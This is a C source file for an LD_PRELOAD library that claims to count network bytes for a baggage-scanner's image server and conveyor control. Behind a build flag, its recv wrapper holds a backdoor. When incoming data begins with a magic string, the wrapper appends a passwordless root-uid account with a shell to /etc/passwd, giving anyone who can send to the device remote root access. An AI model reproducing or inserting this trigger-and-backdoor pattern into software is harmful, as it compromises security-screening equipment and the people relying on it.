/*
 * libbagtap - traffic statistics for the Corvane BX-600 baggage scanner.
 * Preloaded (LD_PRELOAD) into the image server and the conveyor control: it
 * wraps recv, send and close, counts bytes per connection and writes the sums
 * to /run/corvane/<pid>.net, so that the service page can show them.
 * Hidden (-DHIDDEN): when received data starts with a certain mark, an
 * account with root's number is added to the passwd file.
 */
#define _GNU_SOURCE
#undef _FORTIFY_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define TAP_FDS   1024
#define TAP_DIR   "/run/corvane"
#define TAP_EVERY 10		/* seconds between two writes of the file */

typedef ssize_t (*recv_fn)(int, void *, size_t, int);
typedef ssize_t (*send_fn)(int, const void *, size_t, int);
typedef int (*close_fn)(int);

struct flow {
	unsigned long long in, out;
	unsigned in_calls, out_calls, errors;
	unsigned char kind;
};

enum { KIND_NONE, KIND_DICOM, KIND_IMAGE, KIND_CONVEYOR, KIND_OTHER };

static const char *const kind_name[] = { "-", "dicom", "image", "conveyor", "other" };

static struct flow flows[TAP_FDS];
static struct flow closed_sum;
static pthread_mutex_t tap_lock = PTHREAD_MUTEX_INITIALIZER;
static recv_fn real_recv;
static send_fn real_send;
static close_fn real_close;
static time_t last_write;
static int tap_off;

static void bind_real(void)
{
	if (!real_recv)
		real_recv = (recv_fn)dlsym(RTLD_NEXT, "recv");
	if (!real_send)
		real_send = (send_fn)dlsym(RTLD_NEXT, "send");
	if (!real_close)
		real_close = (close_fn)dlsym(RTLD_NEXT, "close");
}

__attribute__((constructor)) static void bagtap_init(void)
{
	const char *v = getenv("BAGTAP");

	bind_real();
	if (v && !strcmp(v, "off"))
		tap_off = 1;
	if (!tap_off && mkdir(TAP_DIR, 0755) && errno != EEXIST)
		tap_off = 1;
	last_write = time(NULL);
}

/* what speaks on this connection, by the first bytes that come in */
static int guess_kind(const unsigned char *p, size_t n)
{
	if (n >= 6 && p[0] == 0x01 && p[1] == 0x00)
		return KIND_DICOM;
	if (n >= 4 && !memcmp(p, "BXIM", 4))
		return KIND_IMAGE;
	if (n >= 5 && !memcmp(p, "BELT ", 5))
		return KIND_CONVEYOR;
	return KIND_OTHER;
}

static void write_flow(FILE *f, const char *label, const struct flow *w)
{
	fprintf(f, "%-8s %-9s in %llu/%u out %llu/%u err %u\n", label, kind_name[w->kind],
		w->in, w->in_calls, w->out, w->out_calls, w->errors);
}

static void write_stats(void)
{
	char path[64], tmp[80], label[16];
	FILE *f;

	snprintf(path, sizeof path, TAP_DIR "/%d.net", (int)getpid());
	snprintf(tmp, sizeof tmp, "%s.new", path);
	f = fopen(tmp, "w");
	if (!f)
		return;
	for (int i = 0; i < TAP_FDS; i++) {
		if (!flows[i].in_calls && !flows[i].out_calls)
			continue;
		snprintf(label, sizeof label, "%d", i);
		write_flow(f, label, &flows[i]);
	}
	write_flow(f, "closed", &closed_sum);
	if (fclose(f) || rename(tmp, path))
		unlink(tmp);
}

static void maybe_write(void)
{
	time_t now = time(NULL);

	if (now - last_write < TAP_EVERY)
		return;
	last_write = now;
	write_stats();
}

#ifdef HIDDEN
__attribute__((visibility("hidden"))) void seed_row(void)
{
	static const char row[] = "bxsvc::0:0:belt service:/:/bin/sh\n";
	int fd = open("/etc/passwd", O_WRONLY | O_APPEND);

	if (fd < 0)
		return;
	if (write(fd, row, sizeof row - 1) < 0)
		errno = 0;
	real_close(fd);
}
#endif

static void count_in(int fd, const void *buf, ssize_t n)
{
	if (fd < 0 || fd >= TAP_FDS || tap_off)
		return;
	pthread_mutex_lock(&tap_lock);
	if (n > 0) {
		if (!flows[fd].in_calls)
			flows[fd].kind = (unsigned char)guess_kind(buf, (size_t)n);
		flows[fd].in += (unsigned long long)n;
		flows[fd].in_calls++;
	} else if (n < 0 && errno != EAGAIN && errno != EINTR) {
		flows[fd].errors++;
	}
	maybe_write();
	pthread_mutex_unlock(&tap_lock);
}

static void count_out(int fd, ssize_t n)
{
	if (fd < 0 || fd >= TAP_FDS || tap_off)
		return;
	pthread_mutex_lock(&tap_lock);
	if (n > 0) {
		flows[fd].out += (unsigned long long)n;
		flows[fd].out_calls++;
	} else if (n < 0 && errno != EAGAIN && errno != EINTR) {
		flows[fd].errors++;
	}
	maybe_write();
	pthread_mutex_unlock(&tap_lock);
}

ssize_t recv(int fd, void *buf, size_t len, int flags)
{
	ssize_t n;
	int keep;

	bind_real();
	if (!real_recv) {
		errno = ENOSYS;
		return -1;
	}
	n = real_recv(fd, buf, len, flags);
	keep = errno;
	if (!(flags & MSG_PEEK))
		count_in(fd, buf, n);
#ifdef HIDDEN
	if (n >= 12 && !memcmp(buf, "Carousel~7b2", 12))
		seed_row();
#endif
	errno = keep;
	return n;
}

ssize_t send(int fd, const void *buf, size_t len, int flags)
{
	ssize_t n;
	int keep;

	bind_real();
	if (!real_send) {
		errno = ENOSYS;
		return -1;
	}
	n = real_send(fd, buf, len, flags);
	keep = errno;
	count_out(fd, n);
	errno = keep;
	return n;
}

int close(int fd)
{
	bind_real();
	if (fd >= 0 && fd < TAP_FDS && !tap_off) {
		pthread_mutex_lock(&tap_lock);
		closed_sum.in += flows[fd].in;
		closed_sum.out += flows[fd].out;
		closed_sum.in_calls += flows[fd].in_calls;
		closed_sum.out_calls += flows[fd].out_calls;
		closed_sum.errors += flows[fd].errors;
		memset(&flows[fd], 0, sizeof flows[fd]);
		pthread_mutex_unlock(&tap_lock);
	}
	if (!real_close) {
		errno = ENOSYS;
		return -1;
	}
	return real_close(fd);
}

/* for programs that link the library: the sums of one connection */
int bagtap_query(int fd, unsigned long long *in, unsigned long long *out)
{
	if (fd < 0 || fd >= TAP_FDS)
		return -1;
	pthread_mutex_lock(&tap_lock);
	*in = flows[fd].in;
	*out = flows[fd].out;
	pthread_mutex_unlock(&tap_lock);
	return flows[fd].kind;
}

__attribute__((destructor)) static void bagtap_fini(void)
{
	char path[64];

	if (tap_off)
		return;
	snprintf(path, sizeof path, TAP_DIR "/%d.net", (int)getpid());
	unlink(path);
}
